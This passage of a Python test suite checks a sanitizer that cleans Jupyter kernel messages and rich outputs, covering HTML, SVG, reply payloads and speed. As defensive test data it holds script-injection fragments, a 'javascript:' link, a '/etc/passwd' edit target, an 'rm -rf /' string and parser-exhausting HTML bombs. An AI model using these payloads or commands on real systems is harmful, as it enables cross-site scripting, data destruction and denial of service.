    ("error", {"ename": "E", "evalue": "x", "traceback": ["\x1b[31ma", 7]},
     {"ename": "E", "evalue": "x", "traceback": ["\x1b[31ma"]}),
    ("error", {"traceback": "x", "html": "<script>"},
     {"ename": "Error", "evalue": "", "traceback": []}),
    ("debug_event", {"type": "event", "event": "stopped", "body": {}},
     {"type": "event", "event": "stopped", "body": {}}),
    ("debug_event", {"x": float("inf")}, None),
    ("display_data", None, None),
    ("display_data", {"data": [], "metadata": 7, "transient": "x"},
     {"data": {"text/plain": ""}, "metadata": {}}),
]  # fmt: skip


@pytest.mark.parametrize(("msg_type", "content", "expected"), SHAPES)
def test_a_message_has_the_shape_that_front_ends_expect(
    msg_type: str, content: Any, expected: Any
) -> None:
    assert relayed(msg_type, content) == expected


def test_what_needs_no_look_is_relayed_in_any_case() -> None:
    assert PLAIN < RELAYED
    assert not PLAIN & {"status", "display_data", "execute_result", "comm_open", "error"}


def test_a_reply_makes_the_front_end_do_nothing() -> None:
    payload = [
        {"source": "ask_exit", "keepkernel": False},
        {"source": "edit", "filename": "/etc/passwd", "line_number": 1},
        {"source": "edit_magic", "filename": "x"},
        {"source": "set_next_input", "text": "x = 1", "replace": True},
        {"source": "set_next_input", "text": ["x"], "replace": True},
        {"source": "page", "data": HOSTILE, "start": "x", "more": 1},
        {"source": ["page"]},
        "page",
    ]
    content = {"status": "ok", "execution_count": 1, "payload": payload, "user_expressions": {}}
    safe_payload = [
        {"source": "set_next_input", "text": "x = 1", "replace": False},
        {"source": "page", "data": {"text/plain": "x"}, "start": 0},
    ]
    assert safe_reply("execute_reply", content, DEFAULT) == {**content, "payload": safe_payload}
    assert content["payload"] is payload, "the content is not changed"
    trusted = safe_reply("execute_reply", content, TRUSTED)["payload"]
    assert [one["source"] for one in trusted] == ["set_next_input", "page"]
    assert trusted[1]["data"] == HOSTILE


def test_expressions_and_variables_are_bundles() -> None:
    found = {
        "a": {"status": "ok", "data": HOSTILE, "metadata": {"isolated": True}, "x": 1},
        "b": {"status": "error", "ename": "E", "evalue": "", "traceback": [], "data": HOSTILE},
        "c": {"data": HOSTILE},
        "d": "<script>",
    }
    safe = safe_reply("execute_reply", {"status": "ok", "user_expressions": found}, DEFAULT)
    error = {"status": "error", "ename": "E", "evalue": "", "traceback": []}
    assert safe["user_expressions"] == {
        "a": {"status": "ok", "data": {"text/plain": "x"}, "metadata": {}},
        "b": error,
        "c": {**error, "ename": "Error"},
    }
    inspected = {"status": "ok", "found": True, "data": HOSTILE, "metadata": {}}
    assert safe_reply("inspect_reply", inspected, DEFAULT)["data"] == {"text/plain": "x"}
    nothing = {"status": "ok", "found": False, "data": {}, "metadata": {}}
    assert safe_reply("inspect_reply", nothing, DEFAULT) == nothing
    rich = {"type": "response", "success": True, "body": {"data": HOSTILE, "metadata": {}, "x": 1}}
    assert safe_reply("debug_reply", rich, DEFAULT)["body"] == {
        "data": {"text/plain": "x"},
        "metadata": {},
        "x": 1,
    }
    memory = {"type": "response", "success": True, "body": {"data": "AAAA"}}
    assert safe_reply("debug_reply", memory, DEFAULT) == memory


def test_what_a_kernel_says_of_itself_leads_nowhere() -> None:
    content = {
        "status": "ok",
        "protocol_version": "5.5",
        "banner": "Python",
        "debugger": True,
        "help_links": [{"text": "Help", "url": "javascript:alert(1)"}],
        "language_info": {
            "name": "evil",
            "version": "3.13.1",
            "nbconvert_exporter": "evil.Exporter",
        },
    }
    safe = safe_reply("kernel_info_reply", content, DEFAULT)
    assert safe["help_links"] == []
    assert safe["language_info"]["nbconvert_exporter"] == "python"
    assert safe["language_info"]["name"] == "python"
    assert safe["language_info"]["version"] == "3.13.1"
    assert (safe["banner"], safe["debugger"]) == ("Python", True)


def test_other_replies() -> None:
    completions = {
        "status": "ok",
        "matches": ["a"],
        "metadata": {"_jupyter_types_experimental": []},
    }
    assert safe_reply("complete_reply", completions, DEFAULT) is completions
    comms = {"status": "ok", "comms": {"x": {"target_name": "jupyter.widget"}}}
    assert safe_reply("comm_info_reply", comms, DEFAULT)["comms"] == {}
    assert safe_reply("comm_info_reply", comms, OutputPolicy(widgets=True)) == comms
    for indent, safe in {"    ": "    ", "rm -rf /": "", 7: "", "\t": "\t"}.items():
        reply = {"status": "incomplete", "indent": indent}
        assert safe_reply("is_complete_reply", reply, DEFAULT)["indent"] == safe
    assert safe_reply("is_complete_reply", {"status": "complete"}, DEFAULT) == {
        "status": "complete"
    }
    assert safe_reply("execute_reply", None, DEFAULT)["status"] == "error"


# --------------------------------------------------------------------------------------------------
# Anything at all
# --------------------------------------------------------------------------------------------------

PIECES = [
    "<", ">", '"', "'", "=", "/", " ", "\n", "\x00", "&lt;", "&#60;", "<b", "<p>", "</p>",
    "<a href=",
    "<svg", "<math", "<style>", "</style>", "<!--", "-->", "<script>", "</script", "onclick=x",
    "<img src=", "data:image/png;base64,", "javascript:", "<table>", "<td>", "<template>", "$",
    "\\",
    "style=", "color:red", "url(", "#T_x", "{", "}", "id=T_x", "class=jp-x", "data-x=1", "\ud800",
    "<select>", "<noscript>", "</", "<title>", "`", "![", "](", "[x]: ", "\\href", "<br>", "é",
]  # fmt: skip
texts = st.one_of(st.text(), st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
kinds = st.sampled_from(
    ["text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "image/png",
     "application/json", "application/javascript", "x", ""]
)  # fmt: skip
anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=12,
)
bundles = st.dictionaries(st.one_of(kinds, kinds, texts), st.one_of(texts, anything), max_size=4)
policies = st.sampled_from([DEFAULT, OutputPolicy(widgets=True), OutputPolicy(also=("x",))])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=bundles, metadata=st.one_of(bundles, anything), policy=policies)
def test_any_bundle_becomes_one_that_can_be_shown(
    data: dict[Any, Any], metadata: Any, policy: OutputPolicy
) -> None:
    before = repr((data, metadata))
    safe, facts = safe_bundle(data, metadata, policy)
    assert repr((data, metadata)) == before
    json.dumps((safe, facts), allow_nan=False, ensure_ascii=False).encode()
    assert "text/plain" in safe
    html = safe.get("text/html", "")
    assert faults(html) == []
    assert "<script" not in html.lower()
    assert "image/svg+xml" not in safe


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    msg_type=st.sampled_from([*sorted(RELAYED), "execute_reply", "inspect_reply", "debug_reply",
                              "kernel_info_reply", "is_complete_reply", "comm_info_reply"]),
    content=st.one_of(
        anything,
        st.fixed_dictionaries({}, optional={
            "data": bundles, "metadata": anything, "transient": anything, "payload": anything,
            "user_expressions": anything, "body": anything, "text": anything, "name": anything,
            "traceback": anything, "language_info": anything, "indent": anything,
            "execution_state": anything, "execution_count": anything, "code": anything,
        }),
    ),
)  # fmt: skip
def test_no_message_is_too_odd(msg_type: str, content: Any) -> None:
    safe = relayed(msg_type, content)
    if safe is not None and not msg_type.startswith("comm_"):
        json.dumps(safe, allow_nan=False, ensure_ascii=False).encode()
    assert isinstance(safe_reply(msg_type, content, DEFAULT), dict)


@settings(max_examples=500, deadline=None)
@given(texts)
def test_any_html_becomes_harmless_and_stays_so(text: str) -> None:
    text = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    safe = safe_html(text) or ""
    assert faults(safe) == []


def deep(depth: int) -> Any:
    value: Any = 1
    for _ in range(depth):
        value = [value]
    return value


def test_values_that_nobody_can_read_are_left_out() -> None:
    for value in (deep(65), deep(100_000), float("nan"), {1: 2}, {"a": {2}}, 1 << 5000, b"x"):
        assert json_or_none(value) is None
        assert "left out" in shown("application/json", value)["text/plain"]
    assert json_or_none(deep(64)) == deep(64)
    assert shown("text/plain", "a\ud800b") == {"text/plain": "a\ufffdb"}
    assert (
        shown("text/html", "<b>\ud83d\ude00 \udc00</b>")["text/html"] == "<b>\U0001f600 \ufffd</b>"
    )
    for kind in ("text/html", "text/markdown", "text/latex", "text/plain"):
        for value in (["<b>x</b>"], 7, None, {"a": 1}, True):
            assert list(shown(kind, value)) == ["text/plain"]


# --------------------------------------------------------------------------------------------------
# What it costs
# --------------------------------------------------------------------------------------------------


def best(action: Callable[[], object], times: int) -> float:
    """Return the seconds of the fastest run: what it costs when the machine is free."""
    took = []
    for _ in range(times):
        start = time.perf_counter()
        action()
        took.append(time.perf_counter() - start)
    return min(took)


def test_honest_outputs_are_not_held_up() -> None:
    table = pd.DataFrame({f"c{n}": range(1000) for n in range(10)}).to_html()
    assert len(table) > 150_000
    # Ten times what it takes on a quiet machine.
    assert best(lambda: safe_html(table), 7) < 0.3
    plain = {"text/plain": "x" * 80}
    assert best(lambda: safe_bundle(plain, {}, DEFAULT), 500) < 100e-6
    picture = {"image/png": "A" * 5_000_000}
    assert best(lambda: safe_bundle(picture, {}, DEFAULT), 3) < 0.3


BOMBS = {
    "depth": "<div>" * 200_000,
    "attributes": "<b " + " ".join(f"a{n}" for n in range(200_000)) + ">x",
    "formats": "".join(f"<b a={n}>" for n in range(4000)) + "<p>x" * 4000,
    "formats in paragraphs": "<p>" + "".join(f"<b a={n}>" for n in range(200)) + "<p>x" * 50_000,
    "hidden ends": "".join(f'<b a={n} x="></b>">' for n in range(20_000)),
    "ends in comments": "".join(f"<b a={n}><!-- </b> -->" for n in range(20_000)),
    "ends in cells": "".join(f"<b a={n}><table><tr><td></b></table>" for n in range(10_000)),
    "ends of others": "<path>" * 50_000 + "</zz>" * 50_000,
    "own ends": "<path/><div></div>" * 50_000,
    "styles": "#T_" + "<style>" * 300_000,
    "space": "<b>" + " " * 3_000_000,
    "length": "x" * (LONGEST_PAGE + 1),
}


@pytest.mark.parametrize("bomb", BOMBS)
def test_hostile_html_costs_little_more(bomb: str) -> None:
    start = time.perf_counter()
    assert safe_html(BOMBS[bomb]) is None
    assert time.perf_counter() - start < 2, "without a look beforehand it is minutes"


def test_few_tags_that_multiply_do_not_multiply_much() -> None:
    bomb = "".join(f'<b a={n} title="{"x" * 300}">' for n in range(50)) + "<p>x" * 50
    assert len(safe_html(bomb) or "") < 2_000_000


def test_large_honest_pages_pass() -> None:
    page = "<!DOCTYPE html>\n<!-- made by a program -->\n<div class='x'>" + (
        "<ul><li>one<li>two <b>three</b></ul><p>text<br/><img alt='a > b'></p>\n" * 5000
    )
    safe = safe_html(page + "</div>")
    assert safe is not None
    assert safe.count("<b>three</b>") == 5000


def test_an_interrupt_cannot_let_an_attribute_pass() -> None:
    """nh3 keeps an attribute whose check raises. Only the main thread gets interrupts, so the
    checks run in another."""
    threads = set()

    def watch(frame: Any, event: str, arg: Any) -> None:
        if event == "call" and frame.f_code.co_name == "_attribute":
            threads.add(threading.current_thread())

    threading.setprofile(watch)
    sys.setprofile(watch)
    try:
        safe_html('<b style="color: red">x</b>')
    finally:
        threading.setprofile(None)
        sys.setprofile(None)
    assert threads
    assert threading.main_thread() not in threads


def test_svg_keeps_to_its_limit() -> None:
    assert safe_svg("<svg>" + " " * LONGEST_PAGE) is None
    assert safe_markdown("x" * LONGEST_PAGE) is None
    assert safe_latex("x" * LONGEST_PAGE) is None
